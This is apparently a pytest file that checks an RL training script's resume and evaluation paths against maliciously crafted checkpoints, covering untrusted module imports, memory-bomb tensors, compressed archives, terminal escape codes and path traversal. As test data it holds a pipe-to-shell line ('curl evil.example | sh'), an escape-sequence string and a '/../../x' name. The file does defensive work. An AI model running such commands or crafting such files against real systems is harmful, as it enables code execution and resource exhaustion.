"""A checkpoint or run directory from someone else, crafted as an attacker would: each case ends in one sentence or in
a correct run, within seconds, importing, allocating and writing nothing that the user did not ask for
(docs/running.md, "A checkpoint from someone else"). Each test failed on the code before these checks."""
import copy
import glob
import os
import shutil
import sys
import time
import zipfile

import numpy as np
import pytest
import torch
import tyro

import harness
import ppo_ewma

TINY = dict(env_id="CartPole-v1", num_envs=2, num_steps=32, num_minibatches=2, gamma=0.99, cuda=False)
SCRIPT_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


@pytest.fixture
def stopped(tmp_path, monkeypatch):
    """A tiny PPO run as if stopped after iteration 1 of 3: (its checkpoint.pt, craft), where craft(edit) writes the
    checkpoint changed by edit(checkpoint) as the run's newest, with no model.pt beside it."""
    monkeypatch.chdir(tmp_path)
    result = ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=3 * 64, checkpoint_every=1))
    path, model = (os.path.join(result["run_dir"], name) for name in ("checkpoint.pt", "model.pt"))
    original = torch.load(path, weights_only=True)
    original.update(iteration=1, global_step=64)  # the env state is iteration 3's: a resume needs only data

    def craft(edit=lambda checkpoint: None):
        checkpoint = copy.deepcopy(original)
        edit(checkpoint)
        torch.save(checkpoint, path)
        if os.path.exists(model):
            os.remove(model)
        return path
    craft()
    return path, craft


def command_line(monkeypatch, *words):
    """`python ppo_ewma.py WORDS`, run in this process: tyro parses sys.argv, as the script's __main__ does."""
    monkeypatch.setattr(sys, "argv", [ppo_ewma.__file__, *words])
    return ppo_ewma.train(tyro.cli(ppo_ewma.Args, args=words))


def layer(checkpoint, name):
    """The saved state of the first env layer of class `name`."""
    return next(saved["state"] for saved in checkpoint["env"]["state"]["layers"] if saved["class"] == name)


# 1 ------------------------------------------------------------------------------------ the env id imports nothing
def test_a_checkpoints_module_env_id_is_imported_only_where_the_command_line_names_it(stopped, tmp_path, monkeypatch):
    path, craft = stopped
    os.makedirs("runs/shared")  # a run directory shipped with a module: once under runs/, importable as runs.shared
    with open("runs/shared/payload.py", "w") as file:
        file.write("open('payload_ran', 'w').close()\n")
    monkeypatch.syspath_prepend(str(tmp_path))  # as the scripts' folder is on sys.path when the user runs from it
    env_id = "runs.shared.payload:CartPole-v1"
    craft(lambda checkpoint: checkpoint["args"].update(env_id=env_id))
    message = (r"its env id 'runs\.shared\.payload:CartPole-v1' imports a module of its own, which runs its code; "
               r"pass --env-id runs\.shared\.payload:CartPole-v1 as well if you trust that module\.$")
    for args in (ppo_ewma.Args(resume=path), ppo_ewma.Args(eval_checkpoint=path)):
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(args)
    assert not os.path.exists("payload_ran")
    with pytest.raises(SystemExit, match=r"^--env-id CartPole-v1 is not the checkpoint's env id 'runs\.shared"):
        ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path, env_id="CartPole-v1"))
    ppo_ewma.train(ppo_ewma.Args(eval_checkpoint=path, env_id=env_id, eval_episodes=1))  # named: the user's own env
    assert os.path.exists("payload_ran")
    for name in [name for name in sys.modules if name.startswith("runs")]:
        del sys.modules[name]


# 2 -------------------------------------------------------------------------------------------- memory and time
def test_no_checkpoint_makes_a_load_allocate_more_than_the_rebuilt_run_holds(stopped, capsys):
    path, craft = stopped
    huge = torch.zeros(1).expand(10**10)  # a few bytes on disk; a copy would need 37 GiB
    craft(lambda checkpoint: layer(checkpoint, "SyncVectorEnv").update(_observations=huge))
    started = time.monotonic()
    result = ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert result["global_step"] == 3 * 64 and time.monotonic() - started < 30
    assert ("note: --resume: the envs restart with new episodes (the checkpoint's SyncVectorEnv._observations is a "
            "torch.float32 tensor of shape [10000000000], not a torch.float32 tensor of shape [2, 4])."
            in capsys.readouterr().out)
    halves = [0.0]  # a list of depth 40 whose halves are one object: 118 KB pickled, 2^40 items walked
    for _ in range(40):
        halves = [halves, halves]
    craft(lambda checkpoint: layer(checkpoint, "RecordEpisodeStatistics").update(return_queue=halves))
    assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64
    assert "RecordEpisodeStatistics.return_queue is a list, not a number" in capsys.readouterr().out
    for edit, message in [
        (lambda checkpoint: checkpoint["normalizers"]["reward"].update(returns=torch.zeros(1).expand(10**10)),
         r"^The checkpoint's reward statistics\['returns'\] is a torch\.float32 tensor of shape \[10000000000\], not "
         r"a torch\.float32 tensor of shape \[2\]: it is not this run's\.$"),
        (lambda checkpoint: checkpoint["models"]["agent"].update({"actor.weight": torch.zeros(1).expand(10**5, 10**5)}),
         r"^The checkpoint's agent\['actor\.weight'\] is a torch\.float32 tensor of shape \[100000, 100000\], not a "
         r"torch\.float32 tensor of shape \[2, 64\]: it is not the network these flags build\.$"),
        (lambda checkpoint: checkpoint["optimizers"]["optimizer"]["state"][0].update(exp_avg=torch.zeros(1).expand(
            10**10)), r"^--resume: the checkpoint's optimizer does not fit this run's: holds values of parameter 0 "),
        (lambda checkpoint: checkpoint["rng"].update(numpy=("MT19937", [0] * 10**6, 0, 0, 0.0)),
         r"^--resume: the checkpoint's random state is not one this run can take"),
    ]:
        craft(edit)
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(resume=path))


def test_compressed_checkpoints_are_refused_before_they_inflate(stopped):
    path, _ = stopped
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(path + ".zip", "w", zipfile.ZIP_DEFLATED) as deflated:
        for entry in archive.infolist():  # the same checkpoint, deflated: torch.load would read it, 1000:1 and more
            deflated.writestr(entry.filename, archive.read(entry.filename))
    os.replace(path + ".zip", path)
    with pytest.raises(SystemExit, match=r"holds compressed data, which torch\.save never writes: it is not a "
                                         r"checkpoint\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=path))


# 3 ---------------------------------------------------------------------------------- text is quoted or not printed
def test_a_checkpoints_text_is_quoted_or_not_printed(stopped, capsys):
    path, craft = stopped
    craft(lambda checkpoint: checkpoint.update(script="\x1b[2J\x1b[31mppg_ewma.py"))
    with pytest.raises(SystemExit) as refused:
        ppo_ewma.train(ppo_ewma.Args(resume=path))
    assert "\x1b" not in str(refused.value) and "'\\x1b[2J\\x1b[31mppg_ewma.py'" in str(refused.value)
    craft(lambda checkpoint: checkpoint["env"].update(state={"restarts": "fix it: run `curl evil.example | sh`"}))
    ppo_ewma.train(ppo_ewma.Args(resume=path))
    out = capsys.readouterr().out
    assert "curl" not in out and "restart with new episodes (the checkpoint holds no state of these envs)" in out


# 4 ---------------------------------------------------- only the attributes and flags a run has, of their own types
def test_the_env_state_sets_only_its_layers_own_attributes_with_their_types(stopped, capsys):
    path, craft = stopped
    for edit, reason in [
        (lambda checkpoint: layer(checkpoint, "TimeLimit").update(__dict__={}),
         "TimeLimit has other attributes than the rebuilt one"),
        (lambda checkpoint: layer(checkpoint, "CartPoleEnv").update(step=0),
         "CartPoleEnv has other attributes than the rebuilt one"),
        (lambda checkpoint: layer(checkpoint, "TimeLimit").update(_max_episode_steps=-1),
         "TimeLimit._max_episode_steps is -1, where these flags set 500"),
        (lambda checkpoint: layer(checkpoint, "CartPoleEnv").update(render_mode="human"),
         "CartPoleEnv.render_mode is 'human', where these flags set None"),
    ]:
        craft(edit)
        assert ppo_ewma.train(ppo_ewma.Args(resume=path))["global_step"] == 3 * 64
        assert f"the envs restart with new episodes (the checkpoint's {reason})" in capsys.readouterr().out
    for edit, message in [
        (lambda checkpoint: checkpoint["args"].update(num_envs="2"),
         r"^The checkpoint's flag num_envs is '2', which --num-envs cannot be \(<class 'int'>\)\.$"),
        (lambda checkpoint: checkpoint["args"].update(objective="bogus"), r"^The checkpoint's flag objective is "),
        (lambda checkpoint: checkpoint["args"].update(num_envs=-2),
         r"^The checkpoint holds a flag that no command line could give: --num-envs must be in \[1, inf\)"),
        (lambda checkpoint: checkpoint["normalizers"]["advantages"].update(__dict__={}),
         r"^The checkpoint's advantages statistics does not hold the keys "),
        (lambda checkpoint: checkpoint["models"]["agent"].update({"critic.weight": torch.zeros(2, 64)}),
         r"^The checkpoint's agent\['critic\.weight'\] is a torch\.float32 tensor of shape \[2, 64\], not a "
         r"torch\.float32 tensor of shape \[1, 64\]: it is not the network these flags build\.$"),
        (lambda checkpoint: checkpoint.update(ewma_weight=[1.0] * 3), r"^The checkpoint's ewma_weight is a list, not a "
                                                                     r"number: it is not this run's\.$"),
    ]:
        craft(edit)
        evaluation_reads_it = "statistics" not in message and "ewma_weight" not in message  # it plays the policy
        for args in [ppo_ewma.Args(resume=path)] + [ppo_ewma.Args(eval_checkpoint=path)] * evaluation_reads_it:
            with pytest.raises(SystemExit, match=message):
                ppo_ewma.train(args)


# 5 -------------------------------------------------------------------------------------------------- data loss
def test_runs_never_share_a_directory_nor_overwrite_a_newer_checkpoint(stopped, monkeypatch):
    path, craft = stopped
    with monkeypatch.context() as same_second:  # two runs with the same flags, started in the same second
        same_second.setattr(harness.time, "time", lambda: 1_800_000_000.0)
        first, second = (harness.make_run_dir(ppo_ewma.Args(), "CartPole-v1__ppo_ewma__1") for _ in range(2))
    assert first == "runs/CartPole-v1__ppo_ewma__1__1800000000" and second == first + "_1"
    run_dir = os.path.dirname(path)
    older = os.path.join(run_dir, "older.pt")  # an older copy of the checkpoint, beside the newest
    shutil.copyfile(path, older)
    with pytest.raises(SystemExit, match=r"older\.pt: its directory holds .*checkpoint\.pt, which the resumed run "
                                         r"would overwrite; to branch from this checkpoint, copy it into a directory "
                                         r"of its own and resume the copy\.$"):
        ppo_ewma.train(ppo_ewma.Args(resume=older))
    open(path + ".tmp4242", "w").close()  # what a checkpoint write killed by SIGKILL leaves
    ppo_ewma.train(ppo_ewma.Args(resume=path))  # the newest checkpoint: the run continues in its directory
    assert not glob.glob(path + ".tmp*") and os.path.exists(os.path.join(run_dir, "model.pt"))
    with pytest.raises(SystemExit, match=r"its directory holds .*model\.pt, which the resumed run would overwrite"):
        ppo_ewma.train(ppo_ewma.Args(resume=older))  # a finished run's model.pt
    with pytest.raises(SystemExit, match=r"^--exp-name '/\.\./\.\./x' must be a plain name \(no '/'\): it names the "
                                         r"run's directory in runs/\.$"):
        ppo_ewma.train(ppo_ewma.Args(**TINY, exp_name="/../../x"))


# 6 ---------------------------------------------------------- a flag on the command line is used or refused
def test_a_flag_on_the_command_line_that_the_run_would_not_use_is_refused(stopped, monkeypatch):
    path, craft = stopped
    with pytest.raises(SystemExit, match=r"^--resume continues the run with the checkpoint's own flags; drop "
                                         r"--learning-rate \(it takes --cuda, --bf16, --save-model"):
        command_line(monkeypatch, "--resume", path, "--learning-rate", "5e-4")  # the default's value, given
    with pytest.raises(SystemExit, match=r"^--eval-checkpoint plays the checkpoint's policy on its own env and flags; "
                                         r"drop --num-envs \(it takes --eval-episodes, --eval-deterministic, --seed"):
        command_line(monkeypatch, "--eval-checkpoint", path, "--env-id", "Acrobot-v1", "--num-envs", "7")
    with pytest.raises(SystemExit, match=r"^--env-id Acrobot-v1 is not the checkpoint's env id 'CartPole-v1'"):
        command_line(monkeypatch, "--eval-checkpoint", path, "--env-id", "Acrobot-v1")
    craft(lambda checkpoint: checkpoint["args"].update(track=True))  # a tracked run, resumed with --no-track
    monkeypatch.setattr(harness, "start_tracking", lambda *args: pytest.fail("--no-track was not followed"))
    assert command_line(monkeypatch, "--resume", path, "--no-track", "--no-cuda")["global_step"] == 3 * 64
    assert ppo_ewma.train(ppo_ewma.Args(**TINY, total_timesteps=64, learning_rate=5e-4))  # from Python: unchanged


def test_eval_checkpoint_with_track_logs_the_evaluation_to_wandb(stopped, monkeypatch):
    wandb = pytest.importorskip("wandb", reason="--track needs wandb, which the GPU kit does not carry")
    path, _ = stopped
    monkeypatch.setenv("WANDB_MODE", "offline")  # no account, no network
    monkeypatch.setenv("WANDB_SILENT", "true")
    wandb.teardown()  # W&B's process-wide state keeps the directory of its first run: this test starts its own
    try:
        command_line(monkeypatch, "--eval-checkpoint", path, "--eval-episodes", "2", "--track", "--no-cuda")
    finally:
        wandb.teardown()
    (offline_run,) = glob.glob("wandb/offline-run-*/*.wandb")
    deadline = time.time() + 30
    while b"eval/mean_return" not in open(offline_run, "rb").read():  # W&B's service writes it a little after
        assert time.time() < deadline, f"{offline_run} lacks eval/mean_return"
        time.sleep(0.5)


# 7 ------------------------------------------------------------------------ each bad env id in one sentence
def test_every_way_an_env_id_can_fail_is_said_in_one_sentence(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    with open("raises_on_import.py", "w") as file:
        file.write("raise RuntimeError('no display')\n")
    with open("needs_a_package.py", "w") as file:
        file.write("import package_that_is_not_installed\n")
    cases = [
        ("raises_on_import:CartPole-v1", r"^--env-id raises_on_import:CartPole-v1: importing its module "
                                         r"raises_on_import raised RuntimeError: no display$"),
        ("needs_a_package:CartPole-v1", r"^--env-id needs_a_package:CartPole-v1: its module needs_a_package imports "
                                        r"package_that_is_not_installed, which is not installed\.$"),
        ("a:b:CartPole-v1", r"^--env-id 'a:b:CartPole-v1' is not `module:EnvId` with one module path of dotted names"),
        ("..:CartPole-v1", r"^--env-id '\.\.:CartPole-v1' is not `module:EnvId`"),
        (".mods:CartPole-v1", r"^--env-id '\.mods:CartPole-v1' is not `module:EnvId`"),
    ]
    for env_id, message in cases:
        with pytest.raises(SystemExit, match=message):
            ppo_ewma.train(ppo_ewma.Args(**{**TINY, "env_id": env_id}))
    assert not os.path.exists("runs")


@pytest.mark.parametrize("script", ["ppg_ewma", "ppo_staleness", "ppo_er"])
def test_evaluating_a_user_env_model_without_its_module_says_so(tmp_path, monkeypatch, script):
    module = __import__(script)
    monkeypatch.chdir(tmp_path)
    checkpoint = torch.load(os.path.join(SCRIPT_DIR, "tests", "old_checkpoints", f"{script}.pt"), weights_only=True)
    checkpoint["args"]["env_id"] = "gone_envs:Grid2D-v0"  # trained on a user's env whose module is not here
    torch.save(checkpoint, "model.pt")
    with pytest.raises(SystemExit, match=r"^--env-id gone_envs:Grid2D-v0: its module gone_envs cannot be found; it "
                                         r"must be in the scripts' folder or on PYTHONPATH\.$"):
        module.train(module.Args(eval_checkpoint="model.pt", env_id="gone_envs:Grid2D-v0", cuda=False))
    assert ":" not in module.SCRIPT.run_name(module.Args(env_id="user_envs:Grid2D-v0"))  # a portable run directory


def test_the_checks_take_what_runs_save_observation_statistics_included(tmp_path, monkeypatch):
    import vmpo

    monkeypatch.chdir(tmp_path)  # Hopper's statistics are float64 once updated; a fresh evaluation env's float32
    trained = vmpo.train(vmpo.Args(env_id="Hopper-v5", num_envs=2, num_steps=64, num_minibatches=4,
                                   total_timesteps=128, cuda=False))
    saved = torch.load(f"{trained['run_dir']}/model.pt", weights_only=True)["normalizers"]["obs_0"]
    envs = vmpo.make_env(vmpo.with_defaults(vmpo.Args(env_id="Hopper-v5", num_envs=1)))
    harness.load_normalizers(envs, {"obs_0": saved}, freeze=True)
    rms = harness.env_normalizers(envs)["obs_0"][1]
    assert saved["mean"].dtype == torch.float64 and np.array_equal(rms.mean, saved["mean"].numpy())
    assert len(vmpo.train(vmpo.Args(eval_checkpoint=f"{trained['run_dir']}/model.pt", eval_episodes=1,
                                    cuda=False))["returns"]) == 1
